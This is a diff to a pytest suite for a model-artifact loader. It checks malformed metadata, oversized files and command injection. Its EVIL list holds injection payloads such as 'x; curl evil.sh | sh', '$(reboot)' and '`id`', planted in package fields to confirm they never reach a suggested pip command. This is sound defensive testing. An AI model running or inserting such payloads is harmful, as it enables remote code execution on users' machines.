@@ -1,6 +1,7 @@
 """The head file: every byte that matters is checked, and each refusal says what to do."""
 
 import json
+import math
 import shutil
 
 import pytest
@@ -253,6 +254,21 @@ def forged(head, tmp_path, **changes):
         ({"weights": []}, "weights: a list"),
         ({"input__std": [0, 0, 0]}, "does not hold together"),
         ({"input__crop_px": 40_000, "input__resize_px": 40_000}, "now expect"),
+        ({"calibration__thresholds": [[0.5]]}, "thresholds: 1 values in the place of 2"),
+        ({"calibration__thresholds": [[0.5, 0.9, 0.9]]}, "thresholds: 3 values"),
+        ({"calibration__thresholds": [[0.5, 10**400]]}, "thresholds: 1000"),
+        ({"calibration__thresholds": [[0.5, float("nan")]]}, "thresholds: nan"),
+        ({"calibration__thresholds": [[0.5, 1.5]]}, "no probabilities"),
+        ({"calibration__thresholds": [[0.5, 0.9], [0.6, 0.8]]}, "do not grow"),
+        ({"calibration__temperature": float("inf")}, "temperature: inf, which is no number"),
+        ({"calibration__temperature": 10**400}, "temperature: 1000"),
+        ({"calibration__similarities": [float("nan")] * 101}, "similarities: nan"),
+        ({"calibration__images": -1}, "fewer than 0"),
+        ({"images": {"train": -1}}, "fewer than 0"),
+        ({"images": {"train": 2**63}}, "images: 9223"),
+        ({"metrics": {"accuracy": 10**400}}, "metrics: 1000"),
+        ({"input__mean": [0.5]}, "does not hold together"),
+        ({"input__crop_px": 10**30}, "crop_px: 1000"),
         ({"metrics": json.loads("[" * 40 + "]" * 40)}, "metrics: a list"),
         ({"metrics": {"a": json.loads("[" * 40 + "]" * 40)}}, "32 levels"),
     ],
@@ -334,3 +350,77 @@ def test_a_header_that_would_fill_the_memory_is_refused_before_it_is_read(tmp_pa
     file.write_bytes((artifact.MOST_OF_HEADER + 1).to_bytes(8, "little") + b"{}")
     with pytest.raises(HeadFileError, match="a header of"):
         artifact.inspect(file)
+
+
+EVIL = (
+    "x; curl evil.sh | sh",
+    "$(reboot)",
+    "`id`",
+    "a b",
+    "-r list.txt",
+    "x\ny",
+    "git+https://x/y",
+)
+
+
+@pytest.mark.parametrize("evil", EVIL)
+@pytest.mark.parametrize("field", ["distribution", "distribution_version"])
+def test_no_word_of_a_card_gets_into_a_command_to_type(head, tmp_path, evil, field):
+    names = {"distribution": "tlkit-swin", "distribution_version": "3.1", field: evil}
+    path = rewritten(head, tmp_path / "x.safetensors", names)
+    with pytest.raises(HeadFileError) as caught:
+        artifact.load(path)
+    assert "pip install" not in caught.value.do
+    assert evil.split("\n")[0] not in caught.value.do
+
+
+def test_a_package_that_a_card_names_is_to_be_trusted_before_it_is_installed(head, tmp_path):
+    names = {"distribution": "tlkit-swin", "distribution_version": "3.1"}
+    with pytest.raises(HeadFileError) as caught:
+        artifact.load(rewritten(head, tmp_path / "x.safetensors", names))
+    assert caught.value.do.startswith("pip install tlkit-swin==3.1, if you trust that package")
+
+
+@pytest.mark.parametrize("field", ["name", "version"])
+@pytest.mark.parametrize("evil", EVIL)
+def test_no_word_of_a_head_of_a_package_gets_into_a_command_to_type(head, tmp_path, evil, field):
+    name, version = (evil, "1") if field == "name" else ("tlkit-heads", evil)
+    path = forged(head, tmp_path, plan__head=f"{name}:fancy", versions={name: version})
+    with pytest.raises(HeadFileError) as caught:
+        artifact.load(path)
+    assert "pip install" not in caught.value.do
+
+
+def sparse(head, path, shapes):
+    """A head whose tensors have other shapes, the file as large as they say, and mostly holes."""
+    with head.open("rb") as file:
+        header = json.loads(file.read(int.from_bytes(file.read(8), "little")))
+    sizes = {"F16": 2, "F32": 4, "I64": 8}
+    end = 0
+    for name, entry in header.items():
+        if name != "__metadata__":
+            entry["shape"] = shapes.get(name, entry["shape"])
+            begin, end = end, end + sizes[entry["dtype"]] * math.prod(entry["shape"])
+            entry["data_offsets"] = [begin, end]
+    text = json.dumps(header).encode()
+    text += b" " * (-len(text) % 8)
+    with path.open("wb") as file:
+        file.write(len(text).to_bytes(8, "little") + text)
+        file.truncate(8 + len(text) + end)
+    return path
+
+
+def test_prototypes_beyond_any_fit_are_refused_before_they_are_read(head, tmp_path, monkeypatch):
+    width = artifact.inspect(head).tensors["familiar.prototypes"].shape[1]
+    rows = (30 << 30) // (2 * width)
+    path = sparse(head, tmp_path / "x.safetensors", {"familiar.prototypes": [rows, width]})
+    monkeypatch.setattr("pathlib.Path.read_bytes", lambda path: pytest.fail("it was read"))
+    with pytest.raises(HeadFileError, match="M from 1 to 24"):
+        artifact.load(path)
+
+
+def test_a_file_that_is_larger_than_the_memory_is_refused_before_it_is_read(head, monkeypatch):
+    monkeypatch.setattr(artifact, "_memory", lambda: head.stat().st_size)
+    monkeypatch.setattr("pathlib.Path.read_bytes", lambda path: pytest.fail("it was read"))
+    with pytest.raises(HeadFileError, match="half of this machine's memory"):
+        artifact.load(head)
